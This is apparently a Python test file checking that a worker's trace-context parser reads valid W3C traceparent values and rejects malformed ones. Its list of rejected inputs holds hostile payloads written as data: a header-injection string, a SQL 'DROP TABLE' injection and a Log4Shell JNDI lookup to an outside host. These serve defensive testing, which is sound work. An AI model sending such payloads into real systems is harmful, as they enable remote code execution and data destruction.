"""The trace contexts that other systems send, whatever they send."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from opentelemetry.trace import SpanContext, get_current_span

from onboarding_worker.features.traces.exporting import parent_in

TRACE, SPAN = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
GIVEN = f"00-{TRACE}-{SPAN}-01"


def context_of(given: object) -> SpanContext | None:
    found = get_current_span(parent_in(given)).get_span_context()
    return found if found.is_valid else None


def test_a_context_is_read():
    context = context_of(GIVEN)
    assert (context.trace_id, context.span_id) == (int(TRACE, 16), int(SPAN, 16))
    assert context.trace_flags.sampled
    assert context.is_remote


def test_its_lowest_flag_says_whether_it_is_sampled(subtests: pytest.Subtests):
    for flags, sampled in [("00", False), ("01", True), ("02", False), ("03", True), ("ff", True)]:
        with subtests.test(flags=flags, sampled=sampled):
            assert bool(context_of(GIVEN[:-2] + flags).trace_flags.sampled) is sampled


def test_of_a_later_version_the_four_parts_that_are_known_are_read():
    assert context_of(f"01-{TRACE}-{SPAN}-01-what-comes-later") == context_of(GIVEN)


def test_what_is_no_context_is_ignored():
    cases = [
        None,
        7,
        b"00",
        ["00"],
        "",
        GIVEN + "-more",  # version 00 ends there
        GIVEN.upper(),
        f"ff-{TRACE}-{SPAN}-01",
        f"00-{'0' * 32}-{SPAN}-01",
        f"00-{TRACE}-{'0' * 16}-01",
        f"00-{TRACE[:-1]}-{SPAN}-01",
        f"00-{TRACE}g-{SPAN}-01",
        f"00-{TRACE}-{SPAN}-1",
        f"00-{TRACE}-{SPAN}",
        f"00_{TRACE}_{SPAN}_01",
        "００-" + GIVEN[3:],  # digits of another script
        f"00-{TRACE}-{SPAN}-01\r\nSet-Cookie: a=b",
        f"01-{TRACE}-{SPAN}-01-" + "x" * 1_000_000,
        "'; DROP TABLE job; --",
        "${jndi:ldap://203.0.113.9/a}",
        "ona@example.org",
    ]
    assert [(hostile, got) for hostile in cases if (got := context_of(hostile)) is not None] == []


@given(st.text() | st.from_regex(r"[0-9a-f]{2}-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}", fullmatch=True))
def test_whatever_comes_is_a_context_or_none(text: str):
    assert isinstance(context_of(text), SpanContext | None)
